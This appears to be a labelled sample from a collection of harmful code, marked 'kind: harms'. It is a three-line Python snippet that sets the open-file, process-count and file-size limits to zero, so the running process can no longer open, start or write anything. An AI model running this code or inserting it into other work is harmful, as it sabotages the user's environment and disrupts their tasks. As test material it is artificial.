# where: first
# kind: harms
# does: Limits are lowered so far that nothing more can be opened, started or written.
import resource

for name in ("RLIMIT_NOFILE", "RLIMIT_NPROC", "RLIMIT_FSIZE"):
    resource.setrlimit(getattr(resource, name), (0, 0))
